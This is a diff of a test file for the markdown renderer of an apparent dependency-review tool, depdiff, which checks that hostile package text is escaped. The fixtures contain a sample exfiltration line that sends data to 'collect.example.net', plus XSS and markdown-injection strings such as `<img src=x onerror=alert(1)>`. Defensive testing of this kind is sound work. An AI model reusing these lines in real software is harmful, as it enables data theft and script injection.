@@ -26,32 +26,32 @@ describe('renderMarkdown layout', () => {
   });
 
   test('has one section per lockfile, findings before each table, packages worst first', () => {
-    const npm = markdown.indexOf('### package\\-lock\\.json');
-    const pnpm = markdown.indexOf('### packages/web/pnpm\\-lock\\.yaml');
+    const npm = markdown.indexOf('### `package-lock.json`');
+    const pnpm = markdown.indexOf('### `packages/web/pnpm-lock.yaml`');
     expect(npm).toBeGreaterThan(0);
     expect(pnpm).toBeGreaterThan(npm);
-    const critical = markdown.indexOf('#### 🟥 event\\-stream\\-helper 3\\.3\\.4 → 3\\.3\\.6');
-    const medium = markdown.indexOf('#### 🟨 @\u200Dacme/logger 1\\.2\\.0 → 1\\.3\\.0');
-    const low = markdown.indexOf('#### 🟦 tiny\\-color 0\\.4\\.1 (added)');
+    const critical = markdown.indexOf('#### 🟥 `event-stream-helper` `3.3.4` → `3.3.6`');
+    const medium = markdown.indexOf('#### 🟨 `@acme/logger` `1.2.0` → `1.3.0`');
+    const low = markdown.indexOf('#### 🟦 `tiny-color` `0.4.1` (added)');
     const table = markdown.indexOf('<details><summary>5 changed packages</summary>');
     expect([critical, medium, low, table].every((index) => index > npm && index < pnpm)).toBe(true);
     expect(critical).toBeLessThan(medium);
     expect(medium).toBeLessThan(low);
     expect(low).toBeLessThan(table);
-    expect(markdown.indexOf('#### 🟧 chalk 5\\.3\\.0 → 5\\.4\\.1')).toBeGreaterThan(pnpm);
+    expect(markdown.indexOf('#### 🟧 `chalk` `5.3.0` → `5.4.1`')).toBeGreaterThan(pnpm);
     expect(markdown).toContain('<details><summary>2 changed packages</summary>');
   });
 
   test('links each location to the npm code view and fences the evidence', () => {
-    expect(markdown).toContain('in [lib/setup\\.js:4](https://www.npmjs.com/package/event-stream-helper/v/3.3.6?activeTab=code)');
+    expect(markdown).toContain('in [`lib/setup.js:4`](https://www.npmjs.com/package/event-stream-helper/v/3.3.6?activeTab=code)');
     expect(markdown).toContain('(https://www.npmjs.com/package/@acme/logger/v/1.3.0?activeTab=code)');
     expect(markdown).toContain("```js\nconst https = require('https');\nhttps.get('https://collect.example.net/?d=' + data);\n```");
     expect(markdown).toContain('<details><summary>package.json changes</summary>\n\n```diff\n--- a/package.json');
   });
 
   test('lists every changed package in the table, including ones without findings', () => {
-    expect(markdown).toContain('| left\\-pad | 1\\.3\\.0 (removed) | removed | transitive | — |');
-    expect(markdown).toContain('| lodash | 4\\.17\\.20 → 4\\.17\\.21 | updated (dev) | transitive | — |');
+    expect(markdown).toContain('| `left-pad` | `1.3.0` (removed) | removed | transitive | — |');
+    expect(markdown).toContain('| `lodash` | `4.17.20` → `4.17.21` | updated (dev) | transitive | — |');
     expect(markdown).not.toMatch(/#### .*lodash/);
   });
 
@@ -62,7 +62,7 @@ describe('renderMarkdown layout', () => {
   });
 
   test('lists packages that could not be reviewed, notes, and how to acknowledge', () => {
-    expect(markdown).toContain('- big\\-binary@\u200D2\\.0\\.0: The tarball is larger than 200 MB\\. (`ELIMIT`)');
+    expect(markdown).toContain('- `big-binary@2.0.0`: The tarball is larger than 200 MB\\. (`ELIMIT`)');
     expect(markdown).toContain('- The registry omits \\_npmUser');
     expect(markdown).toContain('ignore:\n  - package: "event-stream-helper"\n    version: "3.3.6"\n    kinds: [install-script]');
     expect(markdown).toContain('expires: "2026-04-09"');
@@ -116,25 +116,45 @@ describe('renderMarkdown with hostile package text', () => {
     'multi\nline\n## heading',
     'pipe|in|name',
     '```` evil',
+    '`edge`',
+    'see #123 and octo/app#7 and GH-12',
+    ':rocket: $x^2$ $$ $`y`$',
+    'https://evil.example/a www.evil.example a@evil.example',
+    '[^1] deadbeefcafe1234',
+    'hidden\u200B\u200D\u2060\uFEFF\u202E\u{E0041}\uFE0F\uD800',
+  ];
+  /** A word GitHub would turn into a link, mention, reference, math or emoji if it reached rendered text. */
+  const LIVE = [
+    /@everyone/,
+    /#(123|7)\b/,
+    /GH-12/,
+    /:rocket:/,
+    /\$/,
+    /https?:\/\//,
+    /www\.evil/,
+    /@evil\.example/,
+    /\[\^1\]/,
+    /deadbeefcafe/,
+    /<img/i,
   ];
 
   function hostileReport(): Report {
     const report = sampleReport();
     report.changes = hostile.map((name, index) =>
-      changeReport(name, '1.0.0', '2.0.0 @everyone', [
+      changeReport(name, '1.0.0', `2.0.0 @everyone #${index}`, [
         {
           kind: 'network',
           severity: 'high',
           message: `contacts [click](http://evil) <img src=x> @everyone | cell | ${name}`,
-          file: 'lib/```/</details>/x.js',
+          file: `lib/\`\`\`/</details>/${name}.js`,
           line: index + 1,
-          evidence: '```\n</details>\n<img src=x onerror=alert(1)>\n@everyone\n~~~\n````',
+          evidence: `\`\`\`\n</details>\n<img src=x onerror=alert(1)>\n@everyone\n~~~\n\`\`\`\`\n${name}`,
         },
-        { kind: 'deprecated', severity: 'low', message: 'deprecated: [x](http://evil)', acknowledged: { reason: '<img src=x> @everyone [a](http://evil)', expires: '2026-01-01' } },
+        { kind: 'deprecated', severity: 'low', message: `deprecated: ${name}`, acknowledged: { reason: `<img src=x> @everyone [a](http://evil) ${name}`, expires: '2026-01-01' } },
       ], { worst: 'high', packageJsonDiff: '--- a/package.json\n+++ b/package.json\n+  "postinstall": "```\\n</details>"' }),
     );
-    report.errors = [{ name: '@everyone', version: '<img src=x>', message: '[a](http://evil)\n```', code: 'E`X' }];
-    report.notes = ['The ignore for [a](http://evil) @everyone <img src=x> has expired.'];
+    report.errors = [{ name: '@everyone', version: '<img src=x>', message: '[a](http://evil)\n``` #1 @admin $x$', code: 'E`X' }];
+    report.notes = ['The ignore for [a](http://evil) @everyone <img src=x> #5 :tada: has expired.'];
     report.lockfiles = [{ path: 'package-lock.json', format: 'npm', changes: hostile.length }];
     return report;
   }
@@ -142,23 +162,40 @@ describe('renderMarkdown with hostile package text', () => {
   function assertSafe(markdown: string): void {
     expect(markdownProblems(markdown)).toEqual([]);
     const rendered = outsideCode(markdown);
-    expect(rendered).not.toMatch(/<img/i);
-    expect(rendered).not.toMatch(/@everyone/);
-    expect(rendered).not.toMatch(/\]\(http:\/\/evil/);
-    expect(rendered).not.toMatch(/(?<!\]\()http:\/\/evil/);
+    // The only link destinations are npm code views (percent-encoded, never shown as text).
+    expect(rendered).not.toMatch(/\]\((?!https:\/\/www\.npmjs\.com\/)/);
+    const text = rendered.replace(/\]\(https:\/\/www\.npmjs\.com\/[^\s)]*\)/g, ']');
+    for (const live of LIVE) expect(text).not.toMatch(live);
     expect(rendered).not.toMatch(/^#{1,3} (?!depdiff dependency review)/m);
+    // depdiff adds no invisible character; the package's own are shown as <U+XXXX>.
+    // (The only variation selector allowed is the one in depdiff's own ⚠️.)
+    expect(markdown.replaceAll('\u26A0\uFE0F', '')).not.toMatch(/[\u200B-\u200F\u2060\uFEFF\u202A-\u202E\uFE0F]|[\u{E0000}-\u{E007F}]|\p{Cs}/u);
     for (const line of rendered.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| ---'))) {
       // Every table row keeps its five cells: escaped pipes do not split cells.
       expect(line.replace(/\\\|/g, '').split('|').length - 2).toBe(5);
     }
+    for (const line of markdown.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| ---'))) {
+      // Code spans in cells escape their pipes too (GFM splits on them): only the five cell borders stay bare.
+      expect(line.replace(/\\\|/g, '').split('|').length - 2).toBe(5);
+    }
   }
 
-  test('renders no link, image, HTML, heading or mention from package text', () => {
+  test('renders no link, image, HTML, heading, mention, reference, math or emoji from package text', () => {
     const markdown = renderMarkdown(hostileReport(), { marker: '<!-- depdiff -->' });
     assertSafe(markdown);
     expect(markdown).toContain('&lt;img src=x onerror=alert\\(1\\)&gt;');
-    expect(markdown).toContain('\\[link\\]\\(http:\u200B//evil\\)');
-    expect(markdown).toContain('multi line \\#\\# heading');
+    expect(markdown).toContain('contacts `[click](http://evil)` &lt;img src=x&gt; `@everyone` \\| cell \\|');
+    expect(markdown).toContain('#### 🟧 `multi line ## heading`');
+    expect(markdown).toContain('| `pipe\\|in\\|name` |');
+    expect(markdown).toContain('#### 🟧 `` `edge` `` `1.0.0` → `2.0.0 @everyone #6`');
+    expect(markdown).toContain('`hidden<U+200B><U+200D><U+2060><U+FEFF><U+202E><U+E0041><U+FE0F><U+D800>`');
+  });
+
+  test('package names and versions are copyable exactly as published', () => {
+    const markdown = renderMarkdown(sampleReport());
+    expect(markdown).toContain('#### 🟨 `@acme/logger` `1.2.0` → `1.3.0`');
+    expect(markdown).toContain('| `@acme/logger` | `1.2.0` → `1.3.0` |');
+    expect(markdown).toContain('- `big-binary@2.0.0`:');
   });
 
   test('stays safe at every budget level', () => {
